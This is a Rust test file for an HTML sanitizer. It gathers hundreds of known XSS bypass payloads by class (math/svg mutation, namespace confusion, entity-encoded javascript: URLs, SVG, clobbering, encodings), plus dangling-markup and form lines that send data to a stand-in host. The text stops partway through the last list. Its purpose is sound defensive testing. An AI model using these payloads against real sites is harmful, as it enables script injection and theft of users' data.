//! Every published bypass of an HTML sanitizer that we know of, rewritten as a seed might contain it. An independent oracle
//! and Chromium check the cleaned HTML.

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use feedmill::html::{Policy, RawHtml, clean};
use serde_json::{Value, json};
use url::Url;

use super::oracle;
use super::reliability::assert_attack_row;

/// A class of bypasses: its name and description in docs/reliability.md, and samples. A sample that works calls `alert`.
struct Class {
    name: &'static str,
    how: &'static str,
    samples: &'static [&'static str],
}

const CLASSES: &[Class] = &[
    Class {
        name: "mutation by `math` and `svg`",
        how: "style, comments and titles that are text in HTML and markup in MathML or SVG (Bentkowski 2020; DOMPurify \
              before 2.0.17; CVE-2020-26870; ammonia RUSTSEC-2021-0074, RUSTSEC-2025-0071)",
        samples: &[
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math><mtext><table><mglyph><style><math><img src=1 onerror=alert(1)></style>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
            "<svg></p><style><a title=\"</style><img src=1 onerror=alert(1)>\">",
            "<svg><style><a id=\"</style><img src=1 onerror=alert(1)>\"></a></style></svg>",
            "<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>",
            "<math><mi><style><!--</style><a title=\"--><img src=1 onerror=alert(1)>\">x</a></mi></math>",
            "<svg><p><style><g title=\"</style><img src onerror=alert(1)>\"></svg>",
            "<svg><b><style><a title=\"</style><img src=1 onerror=alert(1)>\"></style></b></svg>",
            "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror=alert(1)>\"></style></h1>",
            "<svg><title><style><a title=\"</style><img src=1 onerror=alert(1)>\"></style></title></svg>",
            "<svg><desc><style><!--</style><img src=1 onerror=alert(1)>--></desc></svg>",
            "<math><mglyph><p><mtext><malignmark><style><!--</style><img src onerror=alert(1)></math>",
        ],
    },
    Class {
        name: "confused namespaces",
        how: "integration points of HTML in SVG and MathML: `annotation-xml`, `foreignObject`, `desc`, `title`, `font`, \
              end tags `p` and `br`",
        samples: &[
            "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
            "<math><annotation-xml encoding=\"application/xhtml+xml\"><svg><script>alert(1)</script></svg></annotation-xml></math>",
            "<math><annotation-xml><svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg></annotation-xml></math>",
            "<svg><foreignObject><math><mi><img src=x onerror=alert(1)></mi></math></foreignObject></svg>",
            "<svg><foreignObject><iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe></foreignObject></svg>",
            "<svg><desc><math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math></desc></svg>",
            "<svg><title><img src=x onerror=alert(1)></title></svg>",
            "<svg><font color=a><img src=x onerror=alert(1)></font></svg>",
            "<svg></br><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mn></p><img src=x onerror=alert(1)></mn></math>",
            "<svg><x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script></svg>",
            "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
            "<div xmlns='http://www.w3.org/2000/svg'><script href='data:,alert(1)' /></div>",
        ],
    },
    Class {
        name: "raw text elements",
        how: "elements whose content is text for one parser and markup for another (Bleach CVE-2020-6802, CVE-2020-6816; \
              lxml CVE-2020-27783; sanitize-html CVE-2017-16016)",
        samples: &[
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<noscript><style></noscript><img src=x onerror=alert(1)>",
            "<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>",
            "<noscript><noscript></noscript><img src=x onerror=alert(1)></noscript>",
            "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
            "<textarea>&lt;/textarea&gt;<svg/onload=alert(1)></textarea>",
            "<title></title><img/src=x/onerror=alert(1)></title>",
            "<xmp></xmp><img src=x onerror=alert(1)></xmp>",
            "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
            "<noembed></noembed><img src=x onerror=alert(1)></noembed>",
            "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
            "<iframe></iframe><img src=x onerror=alert(1)></iframe>",
            "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
            "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
            "<pre>&lt;img src=x onerror=alert(1)&gt;</pre>",
            "<plaintext><img src=x onerror=alert(1)>",
            "<style>*{}</style/><img src=x onerror=alert(1)></style>",
            "<script></script/><img src=x onerror=alert(1)>",
            "<script><!--<script></script><img src=x onerror=alert(1)>--></script>",
        ],
    },
    Class {
        name: "`template`, `select` and `option`",
        how: "content that a parser keeps in another tree, and elements that it drops (Rails CVE-2022-23520, \
              CVE-2022-32209, CVE-2024-53985 to -53989)",
        samples: &[
            "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
            "<select><style></select><script>alert(1)</script></style></select>",
            "<select<style/>W<xmp<script>alert(1)</script>",
            "<template><img src=x onerror=alert(1)></template>",
            "<template><div></template><script>alert(1)</script></div></template>",
            "<table><template><td><img src=x onerror=alert(1)></template></table>",
            "<select><option><style></option></select><b></style><svg onload=alert(1)>",
            "<select><iframe></select><img src=x onerror=alert(1)>",
            "<select><keygen><svg onload=alert(1)></select>",
            "<math><style><img src=x onerror=alert(1)></style></math>",
            "<svg><style><script>alert(1)</script></style></svg>",
            "<template shadowrootmode=open><script>alert(1)</script></template>",
            "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
            "<selectedcontent><img src=x onerror=alert(1)></selectedcontent>",
        ],
    },
    Class {
        name: "tables and misnesting",
        how: "foster parenting, the adoption agency, nested forms, anchors and headings that come out in another place \
              when serialized and parsed again",
        samples: &[
            "<table><img src=x onerror=alert(1)><tr><td>x</table>",
            "<table><style><td></style><img src=x onerror=alert(1)></table>",
            "<a href=/x><table><a href=javascript:alert(1)>x</a></table>",
            "<b><a href=/x><p></b><a href=javascript:alert(1)>x",
            "<form><div></form><form><input onfocus=alert(1) autofocus>",
            "<h1><a href=/x><h2><table><h3><img src=x onerror=alert(1)>",
            "<button><p><button><p><svg onload=alert(1)>",
            "<nobr><nobr><table><nobr><img src=x onerror=alert(1)>",
            "<li><li><table><li><svg onload=alert(1)>",
            "<p><svg><p><style></p><img src=x onerror=alert(1)>",
            "<dd><table><dt><svg><style><p title=\"</style><img src=x onerror=alert(1)>\">",
            "<ruby><rt><table><rp><img src=x onerror=alert(1)>",
        ],
    },
    Class {
        name: "comments and declarations",
        how: "comment ends that parsers see in different places, bogus comments, processing instructions, CDATA (Bleach \
              CVE-2021-23980)",
        samples: &[
            "<!--><img src=x onerror=alert(1)>-->",
            "<!---><img src=x onerror=alert(1)>-->",
            "<!-- --!><img src=x onerror=alert(1)>-->",
            "<!-- x --!><script>alert(1)</script>",
            "<!--<!--><img src=x onerror=alert(1)>-->",
            "<!-- -- ><img src=x onerror=alert(1)> -->",
            "<![CDATA[><img src=x onerror=alert(1)>]]>",
            "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
            "<math><![CDATA[><img src=x onerror=alert(1)>]]></math>",
            "<svg><![CDATA[&lt;img src=x onerror=alert(1)&gt;]]>",
            "<?xml ><img src=x onerror=alert(1)> ?>",
            "<?><script>alert(1)</script>",
            "<!DOCTYPE x [<!ENTITY y \"><img src=x onerror=alert(1)>\">]>&y;",
            "<!x ><img src=x onerror=alert(1)>",
            "</ x><img src=x onerror=alert(1)>",
            "<%><img src=x onerror=alert(1)>",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<!--[if gte IE 4]><svg onload=alert(1)><![endif]-->",
            "<p><!--</p><a title=\"--><img src=x onerror=alert(1)>\">",
            "x]]><img src=x onerror=alert(1)><![CDATA[",
        ],
    },
    Class {
        name: "names of elements and attributes",
        how: "slashes, quotes, control characters and line ends in tags; attributes twice, without value, with two equals signs",
        samples: &[
            "<img/src=x/onerror=alert(1)>",
            "<img src=x onerror\u{b}=alert(1)>",
            "<img src=x \u{c}onerror=alert(1)>",
            "<img src=x onerror\n=\nalert(1)>",
            "<img src=x\u{0}onerror=alert(1)>",
            "<im\u{0}g src=x onerror=alert(1)>",
            "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
            "<img \"\"\" onerror=alert(1) src=x>",
            "<img '' src=x onerror=alert(1)//",
            "<img src=x =onerror=alert(1)>",
            "<img src=x onerror==alert(1)>",
            "<img alt=`><script>alert(1)</script>` src=x>",
            "<img src=`x` onerror=alert(1)>",
            "<img title='</style><script>alert(1)</script>' src=/a.jpg><plaintext>",
            "<img src=/a.jpg alt='\"><script>alert(1)</script>'>",
            "<a href=/x title='\" onmouseover=alert(1) x=\"'>x</a>",
            "<a href='/x\" onmouseover=alert(1) x=\"'>x</a>",
            "<img src='/a.jpg?\"onerror=alert(1)//'>",
            "<IMG SRC=x ONERROR=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg\u{a0}onload=alert(1)>",
            "<ſcript>alert(1)</ſcript>",
            "<ıframe src=javascript:alert(1)>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<script>script>alert(1)</script>",
            "<img src=x onerror=alert(1) src=/b.jpg>",
            "<a href=/x href=javascript:alert(1)>x</a>",
            "<div id=1 \u{2028}onclick=alert(1)>x</div>",
        ],
    },
    Class {
        name: "handlers",
        how: "events that fire by themselves or on a click, on allowed and on forbidden elements",
        samples: &[
            "<img src=x:x onerror=alert(1)>",
            "<body onload=alert(1)><details ontoggle=alert(1) open>d</details>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)></audio>",
            "<video src=x onloadstart=alert(1)></video>",
            "<div onpointerover=alert(1)>x</div>",
            "<p tabindex=1 autofocus onfocus=alert(1)>x</p>",
            "<a href=/x autofocus onfocus=alert(1)>x</a>",
            "<input autofocus onfocus=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
            "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
            "<div contenteditable oninput=alert(1)>x</div>",
            "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>",
            "<details open name=x oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</details>",
            "<dialog open oncancel=alert(1) onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
            "<p v-on:click=alert(1) @click=alert(1) x-on:click=alert(1) ng-click=alert(1) data-bind=alert(1)>x</p>",
            "<div hx-on:click=alert(1) hx-get=//evil.example hx-trigger=load>x</div>",
        ],
    },
    Class {
        name: "entities in addresses",
        how: "`javascript:` with character references, white space and control characters in it, with and without \
              semicolons (lxml CVE-2014-3146, CVE-2018-19787)",
        samples: &[
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"java&#x0A;script:alert(1)\">x</a>",
            "<a href=\"java&#13;script:alert(1)\">x</a>",
            "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
            "<a href=\"javascript&NewLine;:alert(1)\">x</a>",
            "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
            "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
            "<a href=\"&#0000106avascript:alert(1)\">x</a>",
            "<a href=\"&#x6a&#x61vascript:alert(1)\">x</a>",
            "<a href=\"javascript&#x3A;alert(1)\">x</a>",
            "<a href=\"javascript&#58alert(1)\">x</a>",
            "<a href=\"\u{1}javascript:alert(1)\">x</a>",
            "<a href=\"\u{1f} javascript:alert(1)\">x</a>",
            "<a href=\"&#1;javascript:alert(1)\">x</a>",
            "<a href=\"java\u{0}script:alert(1)\">x</a>",
            "<a href=\"java&#0;script:alert(1)\">x</a>",
            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"javascript\u{a0}:alert(1)\">x</a>",
            "<a href=\"\u{feff}javascript:alert(1)\">x</a>",
            "<a href=\"javascript&amp;colon;alert(1)\">x</a>",
            "<a href=\"javascript&#x3A&#x3A;alert(1)\">x</a>",
            "<a href=\"&lt;javascript:alert(1)&gt;\">x</a>",
            "<a href=\"feed:javascript&colon;alert(1)\">x</a>",
            "<a href=\"j\na\nv\na\ns\nc\nr\ni\np\nt:alert(1)\">x</a>",
        ],
    },
    Class {
        name: "schemes",
        how: "schemes other than `http` and `https` that run, read or write, in every attribute that takes a URL (lxml \
              CVE-2021-43818; Rails CVE-2022-23518; Loofah CVE-2022-23515)",
        samples: &[
            "<a href=\"vbscript:alert(1)\">x</a>",
            "<a href=\"livescript:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<a href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">x</a>",
            "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\">",
            "<img src=\"DATA:IMAGE/SVG+XML,x\">",
            "<a href=\"blob:https://evil.example/x\">x</a>",
            "<a href=\"filesystem:https://evil.example/x\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<img src=\"file:///etc/passwd\">",
            "<a href=\"about:blank\">x</a>",
            "<a href=\"view-source:javascript:alert(1)\">x</a>",
            "<a href=\"jar:https://evil.example/x!/y\">x</a>",
            "<a href=\"ms-settings:x\">x</a><a href=\"intent://x#Intent;scheme=javascript;end\">x</a>",
            "<a href=\"chrome://settings\">x</a>",
            "<a href=\"ws://evil.example\">x</a>",
            "<a href=\"cid:x\">x</a><a href=\"mid:x\">x</a><a href=\"mhtml:https://evil.example/x\">x</a>",
            "<video src=\"javascript:alert(1)\" poster=\"javascript:alert(1)\"><source src=\"blob:x\"></video>",
            "<audio src=\"data:audio/mp3;base64,AA==\"></audio>",
            "<track src=\"javascript:alert(1)\"><source src=\"javascript:alert(1)\">",
            "<q cite=\"javascript:alert(1)\">x</q><blockquote cite=\"data:text/html,x\">x</blockquote><del cite=\"vbscript:x\">x</del>",
            "<img src=\"/blank.gif\" data-src=\"javascript:alert(1)\" data-srcset=\"data:text/html,x 1x\">",
            "<img longdesc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\" src=/a.jpg>",
            "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x</table>",
        ],
    },
    Class {
        name: "addresses without a scheme",
        how: "two slashes, backslashes, line ends and tabs inside, a base that changes their meaning",
        samples: &[
            "<a href=\"//evil.example/x\">x</a>",
            "<a href=\"\\\\evil.example/x\">x</a>",
            "<a href=\"/\\evil.example/x\">x</a>",
            "<a href=\"https:evil.example\">x</a>",
            "<a href=\"https:\\\\evil.example\\x\">x</a>",
            "<a href=\"/\t/evil.example/x\">x</a>",
            "<a href=\"?javascript:alert(1)\">x</a>",
            "<a href=\"#javascript:alert(1)\">x</a>",
            "<a href=\"./javascript:alert(1)\">x</a>",
            "<a href=\"https://evil.example:80@news.example/\">x</a>",
            "<a href=\"https://[::1\">x</a><a href=\"https://%00/\">x</a><a href=\"https://\u{0}\">x</a>",
            "<base href=\"javascript:alert(1)//\"><a href=\"x\">x</a>",
            "<base href=\"data:text/html,\"><img src=\"x\">",
            "<base href=\"//evil.example/\"><a href=\"x\">x</a>",
            "<html><head><base href=\"javascript:/*\"></head><body><a href=\"*/alert(1)\">x</a>",
        ],
    },
    Class {
        name: "`srcset`",
        how: "candidates that parsers split in different places: commas in URLs, brackets, descriptors, white space",
        samples: &[
            "<img srcset=\"javascript:alert(1) 1x, data:image/svg+xml,x 2x\">",
            "<img srcset=\"/a.jpg,javascript:alert(1) 2x\">",
            "<img srcset=\"/a.jpg 1x,,,javascript:alert(1),,, 2x\">",
            "<img srcset=\"/a.jpg (1x, javascript:alert(1) 2x), data:,x 3x\">",
            "<img srcset=\"data:image/svg+xml,<svg onload=alert(1)> 1x\">",
            "<img srcset=\"https://a.example/x\u{a0}javascript:alert(1) 1x\">",
            "<img srcset=\"https://a.example/x, javascript:alert(1)\" src=/a.jpg>",
            "<img srcset=\"https://a.example/x\n,\tdata:,x\u{c}1x\" src=/a.jpg>",
            "<img srcset=\"https://a.example/x,https://b.example/y 1x\" src=/a.jpg>",
            "<picture><source srcset=\"javascript:alert(1)\"><img src=/a.jpg></picture>",
            "<picture><source srcset=\"data:image/svg+xml,x\" type=\"image/svg+xml\"><img srcset=\"blob:x\"></picture>",
            "<img imagesrcset=\"javascript:alert(1)\" src=/a.jpg>",
        ],
    },
    Class {
        name: "styles",
        how: "`expression`, `url`, `@import`, bindings, overlays on the reader's own buttons",
        samples: &[
            "<p style=\"background:url(javascript:alert(1))\">x</p><style>@import '//evil.example/x.css'</style>",
            "<p style=\"width:expression(alert(1))\">x</p>",
            "<p style=\"width:e\\78pression(alert(1))\">x</p>",
            "<p style=\"w/**/idth:exp/**/ression(alert(1))\">x</p>",
            "<p style=\"-moz-binding:url(//evil.example/x.xml#a)\">x</p>",
            "<p style=\"behavior:url(//evil.example/x.htc)\">x</p>",
            "<a style=\"position:fixed;inset:0;opacity:0\" href=//evil.example>x</a>",
            "<style>*{background:url(//evil.example/x)}</style>x",
            "<link rel=stylesheet href=//evil.example/x.css>x",
            "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style><p style=font-family:x>x</p>",
            "<div style=\"list-style:url('//evil.example/x')\">x</div>",
            "<svg><style>@import url(//evil.example/x)</style></svg>",
            "<p class=\"fixed inset-0\" id=login>x</p>",
            "<font style='content:url(data:image/svg+xml,x)' face='\"onmouseover=alert(1)'>x</font>",
        ],
    },
    Class {
        name: "forms",
        how: "forms that send input elsewhere, `formaction` (lxml CVE-2021-28957), submission by script",
        samples: &[
            "<form action=//evil.example><input name=password type=password><button>Log in</button></form>",
            "<form><button formaction=javascript:alert(1)>x</button></form>",
            "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
            "<input type=image src=x onerror=alert(1) formaction=javascript:alert(1)>",
            "<input type=submit formaction=javascript:alert(1)>",
            "<isindex action=javascript:alert(1) type=image>",
            "<form action=javascript:alert(1)><select autofocus onfocus=this.form.submit()><option>x</select></form>",
            "<keygen autofocus onfocus=alert(1)>",
            "<fieldset><legend><input list=x><datalist id=x><option value=javascript:alert(1)></datalist></fieldset>",
            "<object data=javascript:alert(1) form=f></object><output form=f onclick=alert(1)>x</output>",
        ],
    },
    Class {
        name: "documents in documents",
        how: "frames, `srcdoc`, objects, plug-ins, imports, refreshes, content security policies",
        samples: &[
            "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
            "<iframe src=\"https://a.example/\" srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
            "<iframe src=\"https://a.example/\" onload=alert(1)></iframe>",
            "<iframe src=\"https://a.example/\" name=\"javascript:alert(1)\" title='\"><script>alert(1)</script>'></iframe>",
            "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
            "<object data=\"data:text/html,<script>alert(1)</script>\"><img src=x onerror=alert(1)></object>",
            "<object><param name=movie value=javascript:alert(1)><param name=url value=javascript:alert(1)></object>",
            "<embed src=//evil.example/x.swf allowscriptaccess=always>",
            "<embed code=javascript:alert(1) type=text/html>",
            "<applet code=x archive=//evil.example/x.jar></applet>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
            "<meta http-equiv=set-cookie content='a=b'><meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "<link rel=import href=data:text/html,<script>alert(1)</script>>",
            "<link rel=prefetch href=//evil.example><link rel=manifest href=//evil.example>",
            "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
            "<portal src=javascript:alert(1)></portal><fencedframe src=//evil.example></fencedframe>",
            "<layer src=//evil.example></layer><bgsound src=javascript:alert(1)><xml src=//evil.example id=x></xml>",
            "<script src=//evil.example/x.js></script><script type=module>alert(1)</script><script nomodule>alert(1)</script>",
            "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example\"]}]}</script>",
        ],
    },
    Class {
        name: "SVG",
        how: "scripts, `use`, animated addresses, images, handlers (Loofah CVE-2018-16468, CVE-2019-15587)",
        samples: &[
            "<svg onload=alert(1)><text>t</text></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><script href=data:,alert(1) /></svg>",
            "<svg><script xlink:href=data:,alert(1) /></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
            "<svg><use xlink:href=//evil.example/x.svg#x /></svg>",
            "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
            "<svg><a><animate attributeName=href from=javascript:alert(1) to=1 begin=0s /><text y=20>x</text></a></svg>",
            "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
            "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
            "<svg><image href=x onerror=alert(1) /></svg>",
            "<svg><image href=\"data:image/svg+xml,x\" /></svg>",
            "<svg><handler xmlns:ev=x ev:event=load>alert(1)</handler></svg>",
            "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
            "<svg><animateTransform attributeName=transform onbegin=alert(1)>",
            "<svg><discard onbegin=alert(1)>",
        ],
    },
    Class {
        name: "MathML",
        how: "`href` and `xlink:href` on any element, `maction`, `semantics`",
        samples: &[
            "<math href=javascript:alert(1)><mi>x</mi></math>",
            "<math><mi href=javascript:alert(1)>x</mi></math>",
            "<math><mtext xlink:href=javascript:alert(1)>x</mtext></math>",
            "<math><maction actiontype=statusline#https://news.example xlink:href=javascript:alert(1)>x<mtext>y</mtext></maction></math>",
            "<math><semantics><annotation-xml><maction href=javascript:alert(1)>x</maction></annotation-xml></semantics></math>",
            "<math><ms onclick=alert(1)>x</ms></math>",
        ],
    },
    Class {
        name: "formulas and drawings that stay",
        how: "MathML and SVG that is allowed, with HTML, references, styles and scripts in and around it",
        samples: &[
            "<math><mi><img src=x onerror=alert(1)></mi></math>",
            "<math><mtext><a href=javascript:alert(1)>x</a></mtext><mi>y</mi></math>",
            "<math><mrow><mtext><style></mtext></math><img src=x onerror=alert(1)></style></mrow></math>",
            "<math><mi>x</mi><annotation encoding=application/x-tex></math><img src=x onerror=alert(1)></annotation></math>",
            "<math alttext='</math><img src=x onerror=alert(1)>'><mi>x</mi></math>",
            "<math><mtext><math><mi>x</mi><mtext><p><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\"></math>",
            "<math><mtext><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></math>",
            "<table><math><mi>x<td><math><mo>y</mo></math></table><math><mtext><table><mi>z</math>",
            "<math><semantics><mi>x</mi><annotation-xml encoding=text/html><p><svg><style><a id=\"</style><img src=1 onerror=alert(1)>\"></annotation-xml></semantics></math>",
            "<math><mi mathvariant=\"x' onclick=alert(1)\" href=javascript:alert(1) id=cookie class=x style=x:expression(alert(1))>x</mi></math>",
            "<math><mfenced open='<img src=x onerror=alert(1)>' separators='</math>'><mi>x</mi><mi>y</mi></mfenced></math>",
            "<math><mglyph src=javascript:alert(1) alt=x /><malignmark><mi>x</mi></math>",
            "<script type='math/tex'><img src=x onerror=alert(1)></script>",
            "<tex-source><img src=x onerror=alert(1)></tex-source><svg-title><script>alert(1)</script></svg-title>",
            "<span class=katex><span class=katex-mathml><math><mi>x</mi></math></span><span class=katex-html><img src=x onerror=alert(1)></span></span>",
            "<svg width=200 height=200><rect width=9 height=9 fill=red onclick=alert(1) style='fill:url(javascript:alert(1))'/></svg>",
            "<svg width=200 height=200><rect width=9 height=9 fill='url(//evil.example/x#y)' /><path d=M0 style='stroke:red;background:url(//evil.example)'/></svg>",
            "<svg width=200 height=200><rect fill=red><animate attributeName=href values=javascript:alert(1) /></rect></svg>",
            "<svg width=200 height=200><rect fill=red /><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x' /></svg>",
            "<svg width=200 height=200><title><img src=x onerror=alert(1)></title><rect fill=red /></svg>",
            "<svg width=200 height=200><text><p><style><img src=x onerror=alert(1)></style></text><rect fill=red /></svg>",
            "<svg width=200 height=200><desc></svg><img src=x onerror=alert(1)></desc><rect fill=red /></svg>",
            "<svg width=200 height=200><text>a<tspan><foreignObject><img src=x onerror=alert(1)></foreignObject></tspan></text><rect fill=red /></svg>",
            "<svg width=200 height=200 aria-label='\"><script>alert(1)</script>'><rect fill=red /></svg>",
            "<svg width=200 height=200><g><math><mi>x</mi></math></g><rect fill=red /></svg>",
            "<p><svg width=200 height=200><rect fill=red /></p><style><a title=\"</style><img src=x onerror=alert(1)>\"></svg>",
            "<a href=#fn1>1</a><p id=fn1 onclick=alert(1)>x</p><a href=#cookie>2</a><form id=cookie>",
            "<pre><code class='language-x\" onclick=alert(1) \"'>x</code></pre><sup class='footnote\"x'>1</sup>",
            "<a href='magnet:?xt=\"><script>alert(1)</script>'>x</a><a href='xmpp:javascript:alert(1)'>y</a><a href='sms:&#10;javascript:alert(1)'>z</a>",
            "<lite-youtube videoid='\"><script>alert(1)</script>' title='<img src=x onerror=alert(1)>'></lite-youtube>",
            "<div data-src='https://www.youtube.com/embed/x\" onclick=alert(1)'></div><div class=dailymotion data-id=javascript:alert(1)></div>",
            "<script src='https://gist.github.com/x/1.js?\"onload=alert(1)' onload=alert(1) srcdoc='<script>alert(1)</script>'></script>",
            "<blockquote class=fb-post data-href=javascript:alert(1)></blockquote><amp-img src=javascript:alert(1) onerror=alert(1)></amp-img>",
        ],
    },
    Class {
        name: "clobbering and custom elements",
        how: "`id` and `name` that shadow variables of a script; elements and attributes that have a meaning to a page's \
              own scripts",
        samples: &[
            "<form id=document><input name=cookie></form>",
            "<a id=config><a id=config name=url href=javascript:alert(1)>x</a>",
            "<img name=getElementById src=/a.jpg><img id=attributes src=/b.jpg>",
            "<iframe name=top srcdoc=\"<a id=x href=javascript:alert(1)>\"></iframe>",
            "<form name=attributes><input name=nodeName><input id=removeChild></form>",
            "<x-evil onconnected=alert(1)>x</x-evil>",
            "<button is=x-evil>x</button><a is=x-evil href=/x>x</a>",
            "<p slot=x part=y exportparts=z nonce=a itemprop=url itemid=javascript:alert(1)>x</p>",
            "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
            "<div data-toggle=tooltip data-html=true title='<script>alert(1)</script>'>x</div>",
            "<p xml:base=javascript: xml:lang=en xmlns:xlink=x xlink:href=javascript:alert(1)>x</p>",
        ],
    },
    Class {
        name: "open quotes and open tags",
        how: "markup that swallows the rest of the page and sends it elsewhere, or closes elements that the page opened",
        samples: &[
            "<img src='//evil.example/?",
            "<img src=\"//evil.example/?\n<p>secret</p>",
            "<a href='//evil.example/?",
            "<a target='",
            "<base target='",
            "<textarea>",
            "<select><option>",
            "<style>@import '//evil.example/?",
            "<!--",
            "<script>",
            "<plaintext>",
            "</div></div></article></body></html><img src=x onerror=alert(1)>",
            "</script></style></textarea></title></noscript></template><svg onload=alert(1)>",
            "\"><svg onload=alert(1)>",
            "'--></style></script><svg onload=alert(1)>",
            "<p title=",
            "<p",
            "<",
            "&",
            "&#",
        ],
    },
    Class {
        name: "what a link does",
        how: "`target` without `noopener`, `ping`, `download`, attribution",
        samples: &[
            "<a href=//evil.example target=_blank>x</a>",
            "<a href=//evil.example target=x rel=opener>x</a>",
            "<a href=/x ping=//evil.example>x</a>",
            "<a href=/x download=evil.exe>x</a>",
            "<a href=/x attributionsrc=//evil.example referrerpolicy=unsafe-url type=text/html>x</a>",
            "<area href=javascript:alert(1) shape=default ping=//evil.example><map name=m><area href=javascript:alert(1)></map>",
            "<img src=/a.jpg usemap=#m ismap crossorigin=use-credentials attributionsrc=//evil.example>",
        ],
    },
    Class {
        name: "characters",
        how: "text that is markup in another encoding: UTF-7, ISO-2022-JP escapes, overlong and full-width forms, byte \
              order marks, surrogates",
        samples: &[
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\u{1b}(J<img src=/a.jpg alt=\"\u{1b}$B\">\" onerror=alert(1) \u{1b}(B>",
            "\u{1b}$@<p>\u{1b}(B<img src=x onerror=alert(1)>",
            "\u{c0}\u{bc}script\u{c0}\u{be}alert(1)",
            "\u{fffd}<script\u{fffd}>alert(1)</script>",
            "＜script＞alert(1)＜/script＞",
            "\u{feff}<script>alert(1)</script>",
            "<scr\u{ad}ipt>alert(1)</script>",
            "<img src=x on\u{200b}error=alert(1) onerror=alert(1)>",
            "&#xD800;&#xDC00;<img src=x onerror=alert(1)>",
            "&#x110000;&#xFFFFFFFF3C;script&#x3E;",
            "\u{2028}<img src=x onerror=alert(1)>\u{2029}",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
